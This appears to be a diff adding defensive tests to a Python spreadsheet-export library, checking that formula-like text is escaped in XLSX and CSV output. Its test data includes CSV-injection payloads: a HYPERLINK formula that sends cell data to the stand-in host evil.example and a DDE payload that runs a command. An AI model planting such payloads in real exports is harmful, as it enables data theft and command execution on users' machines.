@@ -1,3 +1,4 @@
+import csv
 import datetime
 import io
 
@@ -20,6 +21,7 @@ from lianxin.core.tabular import (
     Phone,
     Text,
     Time,
+    csv_writer,
     read_sheet,
     write_xlsx,
 )
@@ -341,3 +343,47 @@ def test_what_is_written_reads_back_as_the_same_values():
 def test_an_empty_list_writes_a_template_with_only_the_header():
     workbook = openpyxl.load_workbook(io.BytesIO(write_xlsx(COLUMNS, [])))
     assert workbook.active.max_row == 1
+
+
+# --- formula injection (OWASP CSV injection) ---------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tx",
+    "\rx",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_text_cell_that_starts_like_a_formula_is_written_to_xlsx_as_inert_text(text):
+    rows = [{"name": text, "phone": "", "born": None, "count": 1, "colour": "red", "skills": [], "code": ""}]
+    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx(COLUMNS, rows))).active
+    assert sheet["A2"].value == "'" + text
+    assert sheet["A2"].data_type == "s"
+
+
+def test_numbers_and_dates_stay_numbers_and_dates_when_text_is_escaped():
+    columns = [Column("姓名", "name"), Column("差额", "delta", parse=Integer()), Column("日期", "day", parse=Date())]
+    rows = [{"name": "=1+1", "delta": -5, "day": datetime.date(2025, 1, 2)}]
+    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx(columns, rows))).active
+    assert sheet["A2"].value == "'=1+1"
+    assert sheet["B2"].value == -5 and sheet["B2"].data_type == "n"
+    assert sheet["C2"].value == datetime.datetime(2025, 1, 2) and sheet["C2"].is_date
+
+
+def test_an_escaped_export_reads_back_as_the_text_that_was_written():
+    columns = [Column("备注", "note", parse=Text())]
+    sheet = read_sheet(file=write_xlsx(columns, [{"note": "=HYPERLINK(1)"}]), filename="export.xlsx", columns=columns)
+    assert sheet.errors == [] and sheet.rows[0].values["note"] == "=HYPERLINK(1)"
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_the_csv_writer_prefixes_formula_text_and_leaves_numbers_alone(text):
+    buffer = io.StringIO()
+    csv_writer(buffer).writerow([text, "普通文字", -5, 3.5, ""])
+    cells = next(csv.reader(io.StringIO(buffer.getvalue())))
+    assert cells == ["'" + text, "普通文字", "-5", "3.5", ""]
